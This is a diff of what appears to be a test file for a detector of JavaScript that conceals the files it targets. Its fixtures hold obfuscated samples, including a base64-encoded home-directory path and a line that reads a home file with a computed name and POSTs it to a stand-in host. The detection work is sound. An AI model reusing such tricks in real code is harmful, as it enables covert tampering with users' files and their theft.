@@ -8,6 +8,14 @@ const written = (by: string): string =>
 examine(concealsTargets, {
   speaks: [
     {
+      when: 'the name of a file of somebody is encoded',
+      files: {
+        'index.js': `const fs = require('fs'), os = require('os'), path = require('path'); fs.writeFileSync(path.join(os.homedir(), Buffer.from('LmluZXJ0L3NldHRpbmdzLmpzb24=', 'base64').toString()), 'INERT-MARKER')`,
+      },
+      says: ['decodes the name of what it writes (<home>/.inert/settings.json)'],
+      weight: 'strong',
+    },
+    {
       when: 'a file is sent whose name is calculated',
       files: {
         'index.js': `const name = new Intl.NumberFormat('en').format(7e4); fetch('https://x.inert.invalid', { method: 'POST', body: require('fs').readFileSync(require('os').homedir() + '/' + name, 'utf8') })`,
@@ -107,6 +115,18 @@ examine(concealsTargets, {
   ],
   silent: [
     {
+      when: 'a file of somebody is called by the hash of what is in it',
+      files: {
+        'index.js': `const fs = require('fs'), os = require('os'), path = require('path'); exports.keep = text => fs.writeFileSync(path.join(os.homedir(), '.specimen', require('crypto').createHash('sha256').update(text).digest('hex') + '.json'), text)`,
+      },
+    },
+    {
+      when: 'a file of the package itself has an encoded name',
+      files: {
+        'index.js': `const fs = require('fs'), path = require('path'); fs.writeFileSync(path.join(__dirname, Buffer.from('Y2FjaGUuanNvbg==', 'base64').toString()), '{}')`,
+      },
+    },
+    {
       when: 'a part of a name is calculated',
       files: { 'index.js': `require('fs').writeFileSync('./out/copyright-' + new Intl.NumberFormat('en').format(7e4) + '.txt', 'a')` },
     },
@@ -134,7 +154,12 @@ examine(concealsTargets, {
     { when: 'the world says which', files: { 'index.js': written(`const name = new Date().toISOString() + process.pid + Math.random()`) } },
     {
       when: 'it is calculated to its end',
-      files: { 'index.js': written(`let name = ''; for (let i = 0; i < 26; i++) name += String.fromCharCode(97 + i)`) },
+      files: {
+        'index.js': written(`let name = ''; for (let i = 0; i < 26; i++) name += String.fromCharCode(97 + i)`).replace(
+          'os.homedir()',
+          '__dirname',
+        ),
+      },
     },
     {
       when: 'the code of a function is put into other code',
